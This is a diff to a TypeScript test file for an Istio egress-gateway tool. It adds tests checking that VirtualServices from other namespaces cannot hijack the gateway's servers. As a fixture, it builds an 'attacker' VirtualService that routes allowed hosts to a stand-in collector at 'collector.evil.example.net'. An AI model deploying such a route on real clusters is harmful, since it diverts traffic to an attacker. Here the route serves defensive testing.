@@ -9,12 +9,17 @@ import { ArgsError, buildPlan, checkGatewayReference, EgressPlan } from "../sdk/
 import { routingManifests } from "../sdk/manifests/routing";
 import { lockdownManifests } from "../sdk/manifests/lockdown";
 import { GATEWAY_SELECTOR_LABEL, gatewayReleaseLabels, gatewaySelectorValue, K8sObject, selectorMatches } from "../sdk/model";
-import { gatewaysApplyingTo, GatewayProxy } from "./helpers/istio";
+import { attachesToServer, gatewayServerHostErrors, gatewaysApplyingTo, GatewayProxy, tcpServerDestination } from "./helpers/istio";
 
 function objectsOf(plan: EgressPlan): K8sObject[] {
     const r = routingManifests(plan);
     const l = lockdownManifests(plan);
     return [...r.shared, ...[...r.perHost.values()].flat(), ...l.gatewayNamespace, ...l.protectedNamespaces];
+}
+
+/** The objects as if created at `at` (istiod orders VirtualServices by creation time, then name). */
+function stamped(objects: K8sObject[], at: string): K8sObject[] {
+    return objects.map((o) => ({ ...o, metadata: { ...o.metadata, creationTimestamp: at } as any }));
 }
 
 /** Asserts that building the plan fails with a problem on `field` whose rule matches `rule`. */
@@ -130,5 +135,63 @@ describe("issue 11 item 1: the gateway's objects select only its own pods", () =
         assert.deepStrictEqual(checkGatewayReference({ ...ref, labels: { [GATEWAY_SELECTOR_LABEL]: "istio-egress.istio-egressgateway" } }), []);
         // A label of another gateway (mixed outputs) is refused as well.
         assert.strictEqual(checkGatewayReference({ ...ref, labels: { [GATEWAY_SELECTOR_LABEL]: "egress-b.istio-egressgateway" } }).length, 1);
+    });
+});
+
+describe("issue 11 item 2: a VirtualService in another namespace cannot attach to the gateway's servers", () => {
+    const plan = buildPlan("egress", ARGS);
+    const objects = objectsOf(plan);
+    const gateway = objects.find((o) => o.kind === "Gateway")!;
+    const server = (port: number, host: string) => gateway.spec.servers.find((s: any) => s.port.number === port && s.hosts.some((h: string) => h.endsWith(host)));
+    const httpServer = server(80, "api.example.com");
+    const tlsServer = server(443, "secure.example.com");
+    /** The attacker's VirtualService: names our Gateway, takes an allowed host to a place of its choosing. */
+    const hijack = (namespace: string, host: string, kind: "http" | "tcp", created = "2020-01-01T00:00:00Z"): K8sObject => ({
+        apiVersion: "networking.istio.io/v1",
+        kind: "VirtualService",
+        metadata: { name: "aaa-hijack", namespace, creationTimestamp: created } as any,
+        spec: {
+            hosts: [host],
+            gateways: [plan.gateway.gatewayRef],
+            [kind]: [{ match: [{ gateways: [plan.gateway.gatewayRef], port: kind === "http" ? 80 : 443 }], route: [{ destination: { host: "collector.evil.example.net", port: { number: 443 } } }] }],
+        },
+    });
+
+    it("an HTTP route from another namespace does not bind the host's server; ours does", () => {
+        const evil = hijack("attacker", "api.example.com", "http");
+        assert.strictEqual(attachesToServer(evil, gateway, httpServer), false);
+        const ours = objects.find((o) => o.kind === "VirtualService" && o.spec.hosts[0] === "api.example.com")!;
+        assert.strictEqual(attachesToServer(ours, gateway, httpServer), true);
+        // The same VirtualService in the gateway's namespace would attach: the guard is the namespace, not the model.
+        assert.strictEqual(attachesToServer(hijack(plan.gateway.namespace, "api.example.com", "http"), gateway, httpServer), true);
+    });
+
+    it("an older TCP route from another namespace cannot take over a TLS host's server: the gateway forwards by ours", () => {
+        // Istio takes the first matching VirtualService by creation time: the attacker's is older than ours.
+        const ours = stamped(objects, "2030-01-01T00:00:00Z");
+        const evil = hijack("attacker", "secure.example.com", "tcp");
+        assert.strictEqual(attachesToServer(evil, gateway, tlsServer), false);
+        const dest = tcpServerDestination([evil, ...ours], gateway, tlsServer, plan.gateway.namespace);
+        assert.deepStrictEqual(dest?.destination, { host: "secure.example.com", port: 443 });
+        // A wildcard host in the attacker's route changes nothing either.
+        const wide = hijack("attacker", "*.example.com", "tcp");
+        assert.deepStrictEqual(tcpServerDestination([wide, ...ours], gateway, tlsServer, plan.gateway.namespace)?.destination.host, "secure.example.com");
+        // The model is not vacuous: the same older route in the gateway's namespace would win.
+        const inside = hijack(plan.gateway.namespace, "secure.example.com", "tcp");
+        assert.deepStrictEqual(tcpServerDestination([inside, ...ours], gateway, tlsServer, plan.gateway.namespace)?.destination.host, "collector.evil.example.net");
+    });
+
+    it("every server host is namespace-qualified with `./`, which Istio's validation accepts", () => {
+        for (const p of [plan, buildPlan("egress", { hosts: [{ host: "*.wikipedia.org", mode: EgressMode.Tls, upstreamHost: "www.wikipedia.org" }, { host: "httpbin.org", mode: EgressMode.Http }] })]) {
+            const gw = objectsOf(p).find((o) => o.kind === "Gateway")!;
+            for (const s of gw.spec.servers) {
+                for (const h of s.hosts) {
+                    assert.ok(h.startsWith("./"), h);
+                    assert.deepStrictEqual(gatewayServerHostErrors(h), [], h);
+                }
+            }
+        }
+        assert.notDeepStrictEqual(gatewayServerHostErrors("./api"), [], "the validation model has teeth");
+        assert.notDeepStrictEqual(gatewayServerHostErrors("Bad_NS/api.example.com"), []);
     });
 });
